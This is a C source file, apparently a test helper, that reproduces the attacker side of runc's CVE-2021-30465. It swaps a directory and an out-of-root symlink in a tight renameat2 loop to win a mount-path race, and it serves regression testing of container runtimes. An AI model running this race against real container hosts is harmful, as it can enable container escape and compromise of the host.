/* swapper: the attacker of runc's CVE-2021-30465, as a test helper.
 *
 *     swapper A B STOPFILE
 *
 * exchanges the paths A and B (renameat2 RENAME_EXCHANGE: both always
 * exist, one is a directory, the other a symlink out of the root) as fast
 * as it can, until STOPFILE exists; then prints how many exchanges it made.
 * A runtime that resolves a mount destination by path, then mounts on the
 * path again, can be made to mount through the symlink. */
#define _GNU_SOURCE
#include <fcntl.h>
#include <stdio.h>
#include <unistd.h>

int main(int argc, char **argv)
{
    unsigned long n = 0;

    if (argc != 4) {
        fprintf(stderr, "usage: swapper A B STOPFILE\n");
        return 2;
    }
    while (access(argv[3], F_OK) != 0) {
        for (int i = 0; i < 1000; i++) {
            if (renameat2(AT_FDCWD, argv[1], AT_FDCWD, argv[2], RENAME_EXCHANGE) < 0) {
                perror("swapper: renameat2");
                return 1;
            }
            n++;
        }
    }
    printf("swapper: %lu exchanges\n", n);
    return 0;
}
